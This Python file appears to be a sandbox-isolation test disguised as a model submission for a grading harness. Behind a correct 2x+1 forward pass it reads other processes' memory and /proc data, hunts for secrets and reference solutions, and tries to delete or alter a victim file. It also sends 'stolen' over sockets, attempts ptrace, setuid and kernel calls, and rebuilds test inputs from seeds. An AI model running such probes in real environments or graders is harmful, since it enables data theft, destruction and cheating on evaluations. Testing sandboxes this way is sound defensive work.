"""A program that computes y = 2 x + 1, rightly, and reaches for everything else that there is.

What it gets hold of goes to stderr as one line of JSON, by attack. What it looks for lies masked in
told.json, so that its own memory never holds the plain text; with it lie paths, process numbers and ports,
which a real program would have to guess.
"""

import ctypes
import gc
import json
import os
import resource
import socket
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch

TOLD: dict[str, Any] = json.loads(Path(__file__).with_name("told.json").read_text(encoding="utf-8"))
MASK = bytes(byte ^ 0x5A for byte in range(256))
NEEDLES = {name: bytes.fromhex(text) for name, text in TOLD["needles"].items()}
GUESSES = (
    "/tmp",
    "/var/tmp",
    "/root",
    "/home",
    "/run",
    "/mnt",
    "/opt",
    "/srv",
    "/work",
    "/workspace",
    "/dev/shm",
)
MOST_FILES, MOST_BYTES = 3000, 1 << 22
MOST_GUESSED_BYTES = 1 << 28  # a full /tmp would take longer than the judge waits
PRIVATE = (
    "environ",
    "mem",
    "maps",
    "auxv",
    "stack",
    "syscall",
    "io",
    "cwd",
    "root",
    "exe",
    "fd",
    "map_files",
)
LIBC = ctypes.CDLL(None, use_errno=True)


def found(data: bytes) -> list[str]:
    """Names of what was looked for and lies in the data."""
    masked = data.translate(MASK)
    return [name for name, needle in NEEDLES.items() if needle in masked]


def own_objects() -> Iterator[str]:
    """Strings and bytes that Python knows in this process, and everything in the frames of its callers."""
    for thing in gc.get_objects():
        values = (
            list(thing.values())
            if isinstance(thing, dict)
            else thing
            if isinstance(thing, (list, tuple))
            else ()
        )
        for value in values:
            if isinstance(value, (str, bytes)):
                yield from found(value.encode("utf-8", "replace") if isinstance(value, str) else value)
    frame: Any = sys._getframe()
    while frame is not None:
        yield from found(repr(list(frame.f_locals)).encode() + str(frame.f_locals.get("request")).encode())
        frame = frame.f_back
    for name, module in list(sys.modules.items()):
        model = getattr(module, "Model", None)
        if name.startswith("stitch_tools.worker.reference.") or isinstance(model, type):
            yield f"module {name}"


def own_memory() -> Iterator[str]:
    """What others left in memory that this process inherited."""
    with (
        Path("/proc/self/maps").open(encoding="utf-8") as maps,
        Path("/proc/self/mem").open("rb", 0) as memory,
    ):
        for line in maps:
            span, mode, _, _, inode, *_ = line.split()
            if mode[0] == "r" and inode == "0" and "[v" not in line:
                begin, end = (int(word, 16) for word in span.split("-"))
                for place in range(begin, end, MOST_BYTES):
                    memory.seek(place)
                    try:
                        yield from found(memory.read(min(MOST_BYTES, end - place)))
                    except OSError:
                        break


def other_processes() -> Iterator[str]:
    """Everything that /proc shows of other processes."""
    for folder in Path("/proc").iterdir():
        if not folder.name.isdigit() or int(folder.name) == os.getpid():
            continue
        for name in PRIVATE:
            if peek(folder / name):
                yield f"{name} of another process"
        for name in ("cmdline", "status", "comm"):
            try:
                yield from found((folder / name).read_bytes())
            except OSError:
                continue


def peek(path: Path) -> bool:
    """Whether there was anything to see."""
    try:
        if path.name in ("cwd", "root", "exe"):
            return bool(path.readlink())
        if path.name in ("fd", "map_files"):
            return any(entry.readlink() for entry in path.iterdir())
        with path.open("rb") as file:
            return path.name == "mem" or bool(file.read(64))
    except OSError:
        return False


def descriptors() -> Iterator[str]:
    """Descriptors that were left open, what lies in them, and whether sealed memory can be written."""
    for entry in list(Path("/proc/self/fd").iterdir()):
        try:
            target = str(entry.readlink())
        except OSError:
            continue
        known = (
            target.startswith(("pipe:", "socket:", "/memfd:")) or target == "/dev/null" or "/proc/" in target
        )
        if not known:
            yield f"descriptor of {target}"
        if target.startswith("/memfd:"):
            with entry.open("rb") as file:
                yield from found(file.read(MOST_BYTES))
    for fd in TOLD.get("sealed", ()):
        try:
            os.pwrite(fd, b"x", 0)
            yield "wrote to sealed inputs"
        except OSError:
            continue


def files() -> Iterator[str]:
    """Files at the places that were told, and at those that one would guess."""
    for name in TOLD["paths"]:
        yield from contents(Path(name))
        yield from contents(Path("/proc/1/root") / name[1:])
        yield from contents(Path("/proc/self/cwd/../../..") / name[1:])
    files_left, bytes_left = MOST_FILES, MOST_GUESSED_BYTES
    for root in (*GUESSES, *(str(parent) for parent in Path.cwd().parents)):
        for parent, _, names in os.walk(root):
            for name in names:
                files_left -= 1
                if files_left < 0 or bytes_left < 0:
                    return
                data = read(Path(parent, name))
                bytes_left -= len(data)
                yield from in_file(data)


def contents(path: Path) -> list[str]:
    return in_file(read(path))


def in_file(data: bytes) -> list[str]:
    return [f"{name} in a file" for name in found(data)]


def read(path: Path) -> bytes:
    """The beginning of a regular file; nothing of a pipe, where opening waits for somebody who writes."""
    try:
        if not stat.S_ISREG(path.stat().st_mode):
            return b""
        with path.open("rb") as file:
            return file.read(MOST_BYTES)
    except OSError:
        return b""


def changes() -> Iterator[str]:
    """Changes to a file of the user's, its folder, and what others share."""
    victim = Path(TOLD["victim"])
    beside, own = victim.with_name("new"), Path("mine")
    own.touch()
    flags = os.O_WRONLY | os.O_CREAT
    tries: dict[str, Callable[[], object]] = {
        "append": lambda: victim.open("ab").write(b"x"),
        "truncate": lambda: os.truncate(victim, 0),
        "chmod": lambda: victim.chmod(0o777),
        "chown": lambda: os.chown(victim, os.getuid(), os.getgid()),
        "times": lambda: os.utime(victim, (1, 1)),
        "attribute": lambda: os.setxattr(victim, "user.stitch", b"x"),
        "rename": lambda: victim.rename(victim.with_name("moved")),
        "unlink": lambda: victim.unlink(),
        "link": lambda: os.link(victim, "linked"),
        "symlink": lambda: beside.symlink_to(victim),
        "mkdir": lambda: victim.with_name("folder").mkdir(),
        "create": lambda: os.close(os.open(beside, flags)),
        "move in": lambda: own.rename(beside),
        "device": lambda: os.mknod(victim.with_name("device")),
        "system file": lambda: os.close(os.open("/usr/lib/os-release", os.O_WRONLY)),
        "kernel setting": lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)),
    }
    for name, act in tries.items():
        if succeeds(act):
            yield name


def succeeds(act: Callable[[], object]) -> bool:
    try:
        act()
    except OSError:
        return False
    return True


def network() -> Iterator[str]:
    """Connections to the test's own listeners and out of the machine."""
    path, port = TOLD["socket"], TOLD["port"]
    lines: list[tuple[str, int, int, Any]] = [
        ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
        ("tcp6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", port)),
        ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
        ("raw", socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
        ("unix", socket.AF_UNIX, socket.SOCK_STREAM, path),
        ("unix datagram", socket.AF_UNIX, socket.SOCK_DGRAM, path + ".datagram"),
        ("abstract unix", socket.AF_UNIX, socket.SOCK_STREAM, TOLD["abstract"]),
        ("netlink", socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
        ("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, (2, port)),
    ]
    for name, family, kind, address in lines:
        if succeeds(lambda family=family, kind=kind, address=address: speak(family, kind, address)):
            yield name
    if succeeds(lambda: socket.getaddrinfo("stitch.example", 80)):
        yield "name service"


def speak(family: int, kind: int, address: Any) -> None:
    with socket.socket(family, kind) as line:
        line.settimeout(1.0)
        if kind == socket.SOCK_DGRAM:
            line.sendto(b"stolen", address)
        elif kind == socket.SOCK_STREAM:
            line.connect(address)
            line.sendall(b"stolen")


def control() -> Iterator[str]:
    """Signals, priorities and affinities of processes that were told, and of the own supervisor."""
    for name, pid in TOLD["pids"].items():
        tries: dict[str, Callable[[], object]] = {
            "signal": lambda pid=pid: os.kill(pid, 0),
            "limits": lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE),
            "priority": lambda pid=pid: os.setpriority(
                os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)
            ),
            "affinity": lambda pid=pid: os.sched_setaffinity(pid, os.sched_getaffinity(pid)),
        }
        for what, act in tries.items():
            if succeeds(act):
                yield f"{what} of {name}"


def raw(number: int, *words: Any) -> int:
    LIBC.syscall.restype = ctypes.c_long
    return LIBC.syscall(
        ctypes.c_long(number), *(ctypes.c_long(word) if isinstance(word, int) else word for word in words)
    )


def foreign_memory() -> Iterator[str]:
    """System calls that read or take over other processes, and kernel interfaces that see everything."""
    room = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(room), 8)
    for name, pid in {**TOLD["pids"], "pid 1": 1}.items():
        remote = (ctypes.c_void_p * 2)(0x400000, 8)
        calls = {
            "ptrace": (101, 0x4206, pid, 0, 0),
            "process_vm_readv": (310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
            "process_vm_writev": (311, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
            "kcmp": (312, pid, os.getpid(), 0, 0, 0),
            "mrelease": (448, -1, 0),
        }
        for what, (number, *words) in calls.items():
            if raw(number, *words) >= 0:
                yield f"{what} of {name}"
        if peek(Path(f"/proc/{pid}/mem")):
            yield f"mem of {name}"
    before = os.getuid()
    for what, (number, *words) in KERNEL_CALLS.items():
        if raw(number, *words) >= 0 and (what != "become root" or before):
            yield what


def devices() -> Iterator[str]:
    """Devices that hold what others have in memory or on disk."""
    for path in ("/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse"):
        if succeeds(lambda path=path: Path(path).open("rb", 0).close()):
            yield path


KERNEL_CALLS: dict[str, tuple[Any, ...]] = {
    "unshare": (272, 0x10000000),
    "mount": (165, b"none", b"/", 0, 0x44000, 0),
    "setns": (308, 0, 0),
    "chroot": (161, b"/"),
    "bpf": (321, 0, 0, 0),
    "io_uring": (425, 4, ctypes.create_string_buffer(120)),
    "userfaultfd": (323, 0),
    "perf": (298, ctypes.create_string_buffer(128), 0, -1, -1, 0),
    "keyring": (250, 0, -3, 0),
    "kernel log": (103, 3, ctypes.create_string_buffer(64), 64),
    "open_by_handle_at": (304, -100, ctypes.create_string_buffer(64), 0),
    "become root": (105, 0),
    "fanotify": (300, 0x200, 0),
}


def shared_memory() -> Iterator[str]:
    """System V segments and files in /dev/shm that others made."""
    LIBC.shmat.restype = ctypes.c_void_p
    place = LIBC.shmat(TOLD["segment"], None, 0o10000)
    if place not in (None, ctypes.c_void_p(-1).value):
        yield from found(ctypes.string_at(place, 4096))
    for path in Path("/dev/shm").glob("*"):
        yield from found(path.read_bytes()[:MOST_BYTES])


def generators(x: torch.Tensor) -> Iterator[str]:
    """Whether a generator state or seed that this process holds gives the inputs."""
    state = torch.get_rng_state()
    seeds = {0, 1, 42, torch.initial_seed(), torch.default_generator.initial_seed(), TOLD["default_seed"]}
    seeds |= {seed + step for seed in tuple(seeds) for step in (-2, -1, 1, 2)}
    seeds |= {seed ^ 0x9E3779B97F4A7C15 for seed in tuple(seeds)}
    for seed in sorted(seed & (2**63 - 1) for seed in seeds):
        torch.manual_seed(seed)
        if any(torch.equal(torch.randn(x.shape), x) for _ in range(3)):
            yield "inputs from a seed"
    torch.set_rng_state(state)
    if any(torch.equal(torch.randn(x.shape), x) for _ in range(3)):
        yield "inputs from the state"
    torch.set_rng_state(state)


def raid(x: torch.Tensor) -> dict[str, list[str]]:
    attacks: dict[str, Callable[[], Iterator[str]]] = {
        attack.__name__: attack
        for attack in (
            own_objects, own_memory, other_processes, descriptors, files, changes, network, control,
            foreign_memory, devices, shared_memory,
        )
    }  # fmt: skip
    attacks["generators"] = lambda: generators(x)
    loot: dict[str, list[str]] = {}
    for name, attack in attacks.items():
        loot[name] = sorted(set(attack()))
    return {name: things for name, things in loot.items() if things}


class ModelNew(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.done = False

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if not self.done:
            print("LOOT " + json.dumps(raid(x)), file=sys.stderr, flush=True)
        self.done = True
        return x * 2.0 + 1.0
